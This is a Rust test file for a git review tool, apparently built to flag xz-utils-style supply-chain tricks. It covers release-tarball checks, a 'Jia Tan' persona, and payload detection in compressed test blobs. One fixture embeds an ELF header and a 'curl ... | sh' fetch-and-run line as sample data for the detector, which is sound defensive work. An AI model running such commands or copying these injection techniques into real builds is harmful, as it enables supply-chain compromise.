    assert!(!screen.contains("is_combining_mark(c));"), "the original's part is not repeated: {screen}");
    let drift = d.app.diff.as_ref().map(|x| x.lines.len()).expect("diff");
    assert!(drift < whole, "{drift} < {whole}");
    d.keys("d");
    assert_eq!(d.app.diff.as_ref().map(|x| x.lines.len()), Some(whole), "d again: the whole diff");

    // Not a backport: d says so.
    d.keys("q");
    d.keys("f");
    d.key(KeyCode::Right);
    d.key(KeyCode::Enter);
    d.select("Fix a typo in the README");
    d.key(KeyCode::Enter);
    d.keys("d");
    assert!(d.notice().contains("drift is for backports"), "{}", d.notice());
}

#[test]
fn the_release_checklist_audits_the_branch_since_its_tag_and_verifies_an_archive() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    d.select("[3.12] gh-91028: Reject identifiers");
    d.keys("R");
    assert_eq!(d.app.screen, Screen::Release);
    let screen = d.screen();
    assert!(screen.contains("Release checklist · 3.12"), "{screen}");
    assert!(screen.contains("since v3.12.2"), "the last tag on the branch: {screen}");
    assert!(screen.contains("✗ 2 release tag findings"), "{screen}");
    assert!(screen.contains("v3.12.2 was tagged by jiat, a fast escalation"), "{screen}");
    assert!(screen.contains("v3.12.2 is signed by SHA256:"), "the newcomer's new key: {screen}");
    assert!(screen.contains("v3.12.1 by "), "{screen}");
    assert!(screen.contains("✗ 3 changes still need a reviewer"), "{screen}");
    assert!(screen.contains("✗ 1 backport drifted from the original"), "{screen}");
    assert!(screen.contains("high or critical risk signals"), "{screen}");
    assert!(screen.contains("release archive not checked"), "{screen}");

    // A release archive made from the tag, and one with an extra m4 file.
    let dir = tempfile::tempdir().expect("temp dir");
    let good = dir.path().join("quill-3.12.2.tar");
    let made = std::process::Command::new("git")
        .args(["-C", demo.ctx.repo.to_str().expect("utf-8"), "archive", "--format=tar", "--prefix=quill-3.12.1/"])
        .args(["-o", good.to_str().expect("utf-8"), "v3.12.2"])
        .status()
        .expect("git archive");
    assert!(made.success());
    d.keys("A");
    d.keys(good.to_str().expect("utf-8"));
    d.key(KeyCode::Enter);
    let screen = d.screen();
    assert!(screen.contains("✓") && screen.contains("matches the tag"), "{screen}");

    // The xz-utils way: an m4 file that is only in the tarball.
    let bad = dir.path().join("quill-3.12.2-bad.tar");
    let made = std::process::Command::new("git")
        .args(["-C", demo.ctx.repo.to_str().expect("utf-8"), "archive", "--format=tar", "--prefix=quill-3.12.1/"])
        .arg("--add-virtual-file=m4/build-to-host-extra.m4:dnl runs at configure time\n")
        .args(["-o", bad.to_str().expect("utf-8"), "v3.12.2"])
        .status()
        .expect("git archive");
    assert!(made.success());
    d.keys("A");
    d.keys(bad.to_str().expect("utf-8"));
    d.key(KeyCode::Enter);
    let screen = d.screen();
    assert!(screen.contains("✗") && screen.contains("differs from the tag: 1 finding"), "{screen}");
    assert!(screen.contains("m4/build-to-host-extra.m4"), "the file only in the archive: {screen}");
    d.keys("q");
    assert_eq!(d.app.screen, Screen::Queue);
}

#[test]
fn a_reviewed_change_reopened_by_its_risks_says_recheck() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    d.select("Add a helper for permission checks");
    let change = d.app.selected().cloned().expect("the bidi change, pending under the default filter");
    assert_eq!(change.verdict, rearview::model::Verdict::Reviewed);
    let screen = d.screen();
    let row = screen.lines().nth(1).expect("a row");
    assert!(row.contains("RECHECK") && row.contains("#123"), "{row}");
    assert!(screen.contains("pending again: the approval cannot cover"), "the detail says why: {screen}");
}

#[test]
fn a_diff_nobody_reads_renders_only_ahead_of_the_reader() {
    use rearview::repo::write::{Files, Writer};
    use std::time::{Duration, Instant};
    let dir = tempfile::tempdir().expect("temp dir");
    let repo = dir.path().join("big");
    let mut w = Writer::init(&repo).expect("init");
    let who = rearview::model::Person { name: "A".into(), email: "a@example.org".into() };
    let mut files = Files::new();
    files.insert("big.py".into(), (0..30_000).map(|i| format!("old_{i} = {i}\n")).collect::<String>().into_bytes());
    let t = w.tree(&files).expect("tree");
    let root = w.commit(Some("refs/heads/main"), &[], t, &who, &who, 1_000, "Root\n").expect("commit");
    files.insert("big.py".into(), (0..30_000).map(|i| format!("new_{i} = {i}\n")).collect::<String>().into_bytes());
    let t = w.tree(&files).expect("tree");
    let tip = w.commit(Some("refs/heads/main"), &[root], t, &who, &who, 2_000, "Rewrite\n").expect("commit");
    let ctx = JobContext {
        repo: repo.clone(),
        db: dir.path().join("db.sqlite3"),
        config: Config::default(),
        github_api: None,
        theme: Theme::default(),
    };
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().expect("runtime");
    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
    let jobs = rearview::jobs::Jobs::new(ctx, tx, runtime.handle().clone());
    let request = Request::Diff { sha: tip.to_string(), width: 120, side_by_side: false, drift_of: None };
    jobs.submit(Job { id: 1, request });

    let mut lines = 0;
    let mut done = false;
    let receive = |rx: &mut tokio::sync::mpsc::UnboundedReceiver<Report>, lines: &mut usize, done: &mut bool| {
        while let Ok(report) = rx.try_recv() {
            match report.reply {
                Reply::Diff(rearview::jobs::DiffPart::Lines(l)) => *lines += l.len(),
                Reply::DiffDone(_) => *done = true,
                _ => {}
            }
        }
    };
    let deadline = Instant::now() + Duration::from_secs(60);
    while lines < 4_000 && Instant::now() < deadline {
        receive(&mut rx, &mut lines, &mut done);
        std::thread::sleep(Duration::from_millis(10));
    }
    assert!(lines >= 4_000, "the first screens arrive ({lines} lines)");
    std::thread::sleep(Duration::from_millis(500));
    receive(&mut rx, &mut lines, &mut done);
    assert!(!done && lines < 4_600, "the render waits for the reader: {lines} of 60,000 lines");

    // The reader asks for the end: the rest follows.
    jobs.set_diff_demand(usize::MAX);
    let deadline = Instant::now() + Duration::from_secs(120);
    while !done && Instant::now() < deadline {
        receive(&mut rx, &mut lines, &mut done);
        std::thread::sleep(Duration::from_millis(10));
    }
    assert!(done, "the whole diff came once asked for");
    assert!(lines > 60_000, "{lines}");
}

/// The hex view draws bytes in the theme's colours: the light theme's own,
/// only the 16 colours with ansi16, none at all without colour (payload
/// findings still stand out, reversed).
#[test]
fn the_hex_view_takes_its_colours_from_the_theme() {
    use ratatui::style::{Color, Modifier};
    let demo = demo();
    let cells = |theme: &str, colour: bool| {
        let mut d = Driver::new(&demo, 160, 48);
        let theme = Theme::builtin(theme).expect("theme");
        d.ctx.theme = theme.clone();
        d.app.styles = Styles::new(theme, colour);
        d.select("Add test files for corrupt LZMA2 streams");
        d.keys("x");
        assert_eq!(d.app.screen, Screen::Hex);
        let backend = TestBackend::new(160, 48);
        let mut terminal = Terminal::new(backend).expect("terminal");
        terminal.draw(|frame| view::draw(frame, &d.app)).expect("draw");
        terminal.backend().buffer().content().to_vec()
    };
    let reversed = |cells: &[ratatui::buffer::Cell], fg: Option<Color>| {
        cells.iter().any(|c| c.modifier.contains(Modifier::REVERSED) && fg.is_none_or(|f| c.fg == f))
    };

    let light = cells("light", true);
    assert!(reversed(&light, Some(Color::Rgb(0xbf, 0x39, 0x89))), "findings in light's colour");
    assert!(light.iter().any(|c| c.fg == Color::Rgb(0x05, 0x50, 0xae)), "printable bytes in light's colour");
    let cyan = Styles::new(Theme::default(), true).color(rearview::render::theme::Color::Indexed(6));
    assert!(!light.iter().any(|c| Some(c.fg) == cyan), "no default colours left");

    let ansi16 = cells("ansi16", true);
    assert!(!ansi16.iter().any(|c| matches!(c.fg, Color::Rgb(..)) || matches!(c.bg, Color::Rgb(..))));
    assert!(reversed(&ansi16, None));

    let plain = cells("default", false);
    assert!(plain.iter().all(|c| c.fg == Color::Reset && c.bg == Color::Reset), "no colour at all");
    assert!(reversed(&plain, None), "findings still stand out");
}

/// The README's example config parses, and its `[keys]` make a keymap.
#[test]
fn the_readme_example_config_is_valid() {
    let readme = include_str!("../README.md");
    let section = readme.split("## Config").nth(1).expect("a Config section");
    let block = section.split("```toml\n").nth(1).and_then(|b| b.split("```").next()).expect("a toml block");
    let config = Config::parse(block, std::path::Path::new("README.md")).expect("the README's example parses");
    assert_eq!(config.ui.syntax_theme.as_deref(), Some("Monokai Extended"));
    assert!(config.keys.contains_key("next_hunk"));
    Keymap::new(&config.keys).expect("its [keys] are valid");
}

#[test]
fn a_queue_cut_by_the_history_limit_says_so_beside_its_count() {
    let demo = demo();
    let d = Driver::new(&demo, 160, 48);
    let data = d.app.data().expect("loaded").clone();
    assert!(data.cut.is_empty(), "the demo is never cut: {:?}", data.cut);
    assert!(!d.screen().contains("cut at"));

    // The same queue, as a repository with more history than the limit gives it.
    let mut cut = data;
    cut.cut = vec!["3.12".into()];
    for (width, height) in [(160, 48), (80, 24)] {
        let app = App::new(Keymap::default(), Styles::new(Theme::default(), true), Session::default(), false);
        let mut d = Driver { app, ctx: demo.ctx.clone(), effects: Vec::new(), during_sync: None, queue_loads: 0 };
        d.app.update(Msg::Resize(width, height));
        d.app.update(Msg::Tick(NOW));
        let effects = d.app.start();
        let Some(Effect::Job(Job { id, .. })) = effects.first().cloned() else {
            panic!("asks for a queue first: {effects:?}")
        };
        d.app.update(Msg::Report(Box::new(Report { id, reply: Reply::Queue(Ok(cut.clone())) })));
        let screen = d.screen();
        let title = screen.lines().find(|l| l.contains("Queue")).unwrap_or_default().to_string();
        assert!(title.contains("(3.12 cut at 10000)"), "{width}×{height}: {screen}");
    }
}

/// Files a commit adds: path and bytes.
type Added<'a> = Vec<(&'a str, Vec<u8>)>;

/// `main` in a new repository at `path`: one commit per (message, files
/// added), in order, all by one developer.
fn main_line(path: &std::path::Path, commits: Vec<(&str, Added<'_>)>) {
    use rearview::model::Person;
    use rearview::repo::write::{Files, Writer};
    let mut w = Writer::init(path).expect("init");
    let dev = Person { name: "Dev".into(), email: "dev@example.org".into() };
    let mut files = Files::new();
    let mut parents = Vec::new();
    for (i, (message, added)) in commits.into_iter().enumerate() {
        files.extend(added.into_iter().map(|(name, bytes)| (name.to_string(), bytes)));
        let tree = w.tree(&files).expect("tree");
        let at = 1_717_000_000 + i as i64 * 100;
        parents = vec![w.commit(Some("refs/heads/main"), &parents, tree, &dev, &dev, at, message).expect("commit")];
    }
    w.set_head("main").expect("head");
}

/// The TUI's jobs on `repo`, with a store beside it in `dir`.
fn world(dir: tempfile::TempDir, repo: std::path::PathBuf) -> Demo {
    let db = dir.path().join("db.sqlite3");
    let ctx = JobContext { repo, db, config: Config::default(), github_api: None, theme: Theme::default() };
    Demo { _dir: dir, ctx }
}

#[test]
fn a_ten_megabyte_line_is_cut_for_display_searched_as_shown_and_whole_in_hex() {
    let dir = tempfile::tempdir().expect("temp dir");
    let repo = dir.path().join("bundle");
    // Two short lines (66 bytes), then one line of ten million characters.
    let mut bundle = b"// generated bundle, do not edit\n// generated bundle, do not edit\n".to_vec();
    bundle.extend_from_slice(b"var head_marker=1;");
    bundle.extend(std::iter::repeat_n(b'x', 10_000_000 - 36));
    bundle.extend_from_slice(b"var tail_marker=2;\n");
    let start = vec![("README", b"a bundle\n".to_vec())];
    main_line(&repo, vec![("Start\n", start), ("Add the minified bundle\n", vec![("dist/bundle.min.js", bundle)])]);
    let demo = world(dir, repo);
    let mut d = Driver::new(&demo, 120, 40);
    d.select("Add the minified bundle");
    d.key(KeyCode::Enter);
    let doc = d.app.diff.as_ref().expect("the diff");
    let held = doc.lines.held_bytes();
    assert!(doc.lines.len() < 120, "the line is cut, not wrapped a hundred thousand times: {}", doc.lines.len());
    assert!(held < 64 * 1024, "the screen holds {held} bytes of text");
    let screen = d.screen();
    assert!(screen.contains("var head_marker=1;"), "{screen}");
    assert!(screen.contains("new line 3 cut: 10,000,000 characters, the first 2,048 shown"), "{screen}");

    // Search finds what is shown, not what was cut.
    d.keys("/head_marker");
    d.key(KeyCode::Enter);
    assert!(d.notice().contains("1 line"), "{}", d.notice());
    d.keys("/tail_marker");
    d.key(KeyCode::Enter);
    assert!(d.notice().contains("no match"), "{}", d.notice());

    // x shows the whole line, from its first byte.
    d.keys("x");
    assert_eq!(d.app.screen, Screen::Hex);
    let hex = d.app.hex.as_ref().expect("hex");
    assert_eq!(hex.top, 64, "the row holding byte 66, where line 3 starts");
    assert_eq!(hex.side().map(|s| s.bytes.len()), Some(66 + 10_000_000 + 1), "the whole file, newline and all");
    d.key(KeyCode::Esc);
    assert_eq!(d.app.screen, Screen::Diff);
}

#[test]
fn a_shallow_clone_says_its_history_is_missing_in_the_header() {
    let dir = tempfile::tempdir().expect("temp dir");
    let origin = dir.path().join("origin");
    let changes: Vec<(String, String)> = (0..6).map(|i| (format!("Change {i}\n"), format!("f{i}.txt"))).collect();
    let commits =
        changes.iter().map(|(message, file)| (message.as_str(), vec![(file.as_str(), message.clone().into_bytes())]));
    main_line(&origin, commits.collect());
    let url = format!("file://{}", origin.display());
    let clone = dir.path().join("clone");
    let cloned = std::process::Command::new("git")
        .args(["clone", "--quiet", "--depth", "2", &url])
        .arg(&clone)
        .status()
        .expect("run git clone");
    assert!(cloned.success());
    let demo = world(dir, clone);
    for (width, height) in [(160, 48), (80, 24)] {
        let d = Driver::new(&demo, width, height);
        let screen = d.screen();
        assert!(screen.contains("shallow clone: history before"), "{width}×{height}:\n{screen}");
        assert!(screen.contains("Change 5"), "the history it has is listed:\n{screen}");
    }
}

/// `z` in the hex view shows what a compressed test file decompresses to,
/// with the findings of those bytes, and back; on other blobs it says
/// there is nothing to decompress.
#[test]
fn z_toggles_the_hex_view_between_a_compressed_blob_and_what_it_decompresses_to() {
    use std::io::Write as _;
    let mut plain: Vec<u8> = (0..400).flat_map(|i| format!("vector {i:04}: ok\n").into_bytes()).collect();
    let elf = plain.len();
    plain.extend_from_slice(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0");
    plain.extend_from_slice(b"\n#!/bin/sh\ncurl -s http://example.invalid/x | sh\n");
    let mut writer = lzma_rust2::XzWriter::new(Vec::new(), lzma_rust2::XzOptions::with_preset(6)).expect("xz");
    writer.write_all(&plain).expect("xz");
    let packed = writer.finish().expect("xz");

    let dir = tempfile::tempdir().expect("temp dir");
    let repo = dir.path().join("lib");
    let start = vec![("README", b"a compression library\n".to_vec())];
    let files = vec![("tests/good-1-lzma2.xz", packed.clone()), ("tests/other.bin", vec![0u8, 1, 2, 3, 0xff])];
    main_line(&repo, vec![("Start\n", start), ("Add test files\n", files)]);
    let demo = world(dir, repo);
    let mut d = Driver::new(&demo, 160, 48);
    d.select("Add test files");
    d.key(KeyCode::Enter);
    d.keys("x");
    assert_eq!(d.app.screen, Screen::Hex);
    let raw = d.screen();
    assert!(raw.contains(&format!("new blob · 0x0 of 0x{:x} · z: decompressed", packed.len())), "{raw}");
    assert!(raw.contains("no payload findings"), "the raw bytes hide it: {raw}");

    d.keys("z");
    assert!(d.notice().starts_with("decompressed: xz stream: "), "{}", d.notice());
    assert!(d.notice().contains(&format!("({} bytes)", plain.len())), "{}", d.notice());
    let shown = d.screen();
    let header = format!("new blob, decompressed · 0x0 of 0x{:x} · z: raw bytes", plain.len());
    assert!(shown.contains(&header), "the decompressed size: {shown}");
    assert!(shown.contains("ELF header"), "{shown}");
    assert!(shown.contains("vector 0000") || shown.contains("vector 0"), "the decompressed rows: {shown}");
    d.keys("!");
    assert!(d.notice().starts_with(&format!("finding 1 of 3 at 0x{elf:x}")), "{}", d.notice());

    d.keys("z");
    assert!(d.notice().starts_with("the raw blob"), "{}", d.notice());
    assert_eq!(d.app.hex.as_ref().map(|h| h.top), Some(0), "back at the top of the raw bytes");
    assert_eq!(d.app.hex.as_ref().and_then(|h| h.side()).map(|s| s.bytes.len()), Some(packed.len()));

    // Another binary that is no stream.
    d.key(KeyCode::Esc);
    d.keys("}");
    d.keys("x");
    d.keys("z");
    assert!(d.notice().starts_with("not a compressed stream"), "{}", d.notice());
    let screen = d.screen();
    assert!(screen.contains("· new blob · 0x0 of 0x5") && !screen.contains("z: "), "still the raw bytes: {screen}");
}

#[test]
fn b_lists_binaries_payload_first_enter_opens_hex_and_q_goes_back() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    d.keys("B");
    assert_eq!(d.app.screen, Screen::Binaries);
    let screen = d.screen();
    assert!(screen.contains("Binaries") && screen.contains("with payloads"), "{screen}");
    let first = d.app.binaries.as_ref().and_then(|b| b.files().first().cloned()).expect("a binary is listed");
    assert_eq!(first.path, "Lib/test/files/bad-3-corrupt_lzma2.xz", "the payload first");
    assert!(!first.findings.is_empty());
    assert!(screen.contains("findings") && screen.contains("ELF header"), "the detail pane: {screen}");
    assert!(screen.contains("unreviewed"), "its adding change's verdict: {screen}");
    d.key(KeyCode::Enter);
    assert_eq!(d.app.screen, Screen::Hex);
    let screen = d.screen();
    assert!(screen.contains("bad-3-corrupt_lzma2.xz") && screen.contains("ELF header"), "{screen}");
    d.keys("q");
    assert_eq!(d.app.screen, Screen::Binaries, "back where the hex view was opened from");
    d.keys("j");
    assert_eq!(d.app.binaries.as_ref().map(|b| b.selected), Some(1));
    d.keys("q");
    assert_eq!(d.app.screen, Screen::Queue);
    // Help on the binaries screen lists its keys.
    d.keys("B?");
    let help = d.screen();
    assert!(help.contains("Binaries") && help.contains("a binary in"), "{help}");
}

#[test]
fn p_lists_people_enter_opens_a_blast_radius_and_enter_there_opens_a_change() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    d.keys("P");
    assert_eq!(d.app.screen, Screen::People);
    let screen = d.screen();
    assert!(screen.contains("People") && screen.contains("privileged"), "{screen}");
    // Down to Jia Tan, whose changes hold the payload.
    let row = |d: &Driver| d.app.people.as_ref().map(|p| p.selected).unwrap_or_default();
    let jia = d
        .app
        .people_data
        .as_ref()
        .and_then(|data| data.people.iter().position(|p| p.name == "Jia Tan"))
        .expect("Jia Tan is listed");
    for _ in 0..jia {
        d.keys("j");
    }
    assert_eq!(row(&d), jia);
    assert!(d.screen().contains("jiat0218@example.com"), "the detail names their identities");
    d.key(KeyCode::Enter);
    assert_eq!(d.app.screen, Screen::Blast);
    let screen = d.screen();
    assert!(screen.contains("Blast radius") && screen.contains("Jia Tan"), "{screen}");
    assert!(screen.contains("Lib/test/files/bad-3-corrupt_lzma2.xz (added"), "the binary they added: {screen}");
    let first = d.app.blast.as_ref().and_then(|b| b.data.as_ref()?.as_ref().ok()?.changes.first().cloned());
    let first = first.expect("a change");
    d.key(KeyCode::Enter);
    assert_eq!(d.app.screen, Screen::Diff);
    assert_eq!(d.app.diff.as_ref().map(|doc| doc.sha.clone()), Some(first.sha));
    d.keys("q");
    assert_eq!(d.app.screen, Screen::Blast, "back where the diff was opened from");
    d.keys("q");
    assert_eq!(d.app.screen, Screen::People);
    assert_eq!(row(&d), jia, "the person stays selected");
    d.keys("q");
    assert_eq!(d.app.screen, Screen::Queue);

    // The detail pane of the newcomer's change names their pace.
    d.keys("f");
    d.key(KeyCode::Right);
    d.key(KeyCode::Enter);
    d.select("Speed up the CRC check");
    let screen = d.screen();
    assert!(
        screen.contains("pace") && screen.contains("the first person since the project's founders"),
        "the escalation line: {screen}"
    );
    d.select("Reject identifiers that start with a combining mark");
    assert!(!d.screen().contains("project's founders"), "not for a change by someone else");
}

#[test]
fn t_charts_review_debt_per_branch_and_area_and_q_goes_back() {
    let demo = demo();
    for (w, h) in [(80, 24), (160, 48)] {
        let mut d = Driver::new(&demo, w, h);
        d.keys("T");
        assert_eq!(d.app.screen, Screen::Trends);
        let screen = d.screen();
        assert!(screen.contains("Review debt") && screen.contains("main (1/2)"), "{screen}");
        assert!(screen.contains("single"), "the coverage's concerns: {screen}");
        snapshot("trends", &d);
        // ] and [ cycle the charted branch, round and back.
        d.keys("]");
        assert!(d.screen().contains("3.12 (2/2)"), "{}", d.screen());
        snapshot("trends_next_branch", &d);
        d.keys("]");
        assert!(d.screen().contains("main (1/2)"));
        d.keys("[");
        assert!(d.screen().contains("3.12 (2/2)"));
        // j and k move through the areas; G to the last.
        let selected = |d: &Driver| d.app.trends.as_ref().map(|t| t.selected).unwrap_or_default();
        d.keys("j");
        assert_eq!(selected(&d), 1);
        d.keys("G");
        let areas = d.app.trends.as_ref().and_then(|t| t.trends()).map(|t| t.trends.areas.len()).unwrap_or_default();
        assert_eq!(selected(&d), areas - 1);
        d.keys("?");
        assert!(d.screen().contains("the chart's next branch"), "{}", d.screen());
        d.key(KeyCode::Esc);
        d.keys("q");
        assert_eq!(d.app.screen, Screen::Queue);
        // Open again: the branch and selection stay while it reloads.
        d.keys("T");
        assert!(d.screen().contains("3.12 (2/2)"));
    }
}
